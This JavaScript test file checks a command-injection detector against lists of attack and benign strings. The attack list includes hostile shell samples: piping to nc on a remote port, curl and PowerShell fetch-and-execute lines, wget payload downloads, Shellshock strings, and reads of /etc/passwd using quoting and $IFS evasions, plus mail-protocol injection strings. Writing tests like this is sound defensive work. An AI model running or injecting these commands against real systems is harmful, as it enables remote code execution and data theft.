// OS command injection detector: commands after separators and inside
// substitutions, with the evasions shells undo, against prose and data.
import { detectCommand, detectMailCommand, normalizeShell } from '../../../src/detection/detectors/rce.js';
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { testDetector } from './cases.js';

testDetector('rce', detectCommand, {
  attacks: [
    'x; uname -a',
    'host.test | nc 198.51.100.3 4444',
    'a && curl -s http://x.test/i | sh',
    '$(id)',
    '`whoami`',
    'w\'h\'o\'am\'i',
    'cat${IFS}/etc/hosts',
    '/b?n/ca? /etc/host?',
    '/etc/pa[s]swd',
    '() { :; }; /bin/true',
    ' "() { ignored; }; /usr/bin/id"',
    'powershell -enc SQBFAFgA',
    'iex (New-Object Net.WebClient).DownloadString("http://x.test")',
    'wget http://x.test/a -O /tmp/a',
    '{cat,/etc/hosts}',
    'echo $((1+1))',
    'ping -c 3 198.51.100.5',
  ],
  benign: [
    'Meet me at 5; we will talk then',
    'Salt & pepper',
    'price: $20',
    'hello world',
    'The cat sat on the mat.',
    'Q&A session | room 4',
    'time flies',
    'read more',
    'function add(a){ return a + 1 }',
  ],
});

testDetector('rce mail command', detectMailCommand, {
  attacks: ['x\r\nA1 LOGIN user pass', 'note\nRCPT TO:<a@x.test>'],
  benign: ['line one\nline two', 'plain text'],
});

test('normalizeShell removes quotes inside words', () => {
  assert.equal(normalizeShell("c'a't /x"), 'cat /x');
});

test('normalizeShell turns $IFS into a space', () => {
  assert.equal(normalizeShell('cat$IFS/x'), 'cat /x');
});
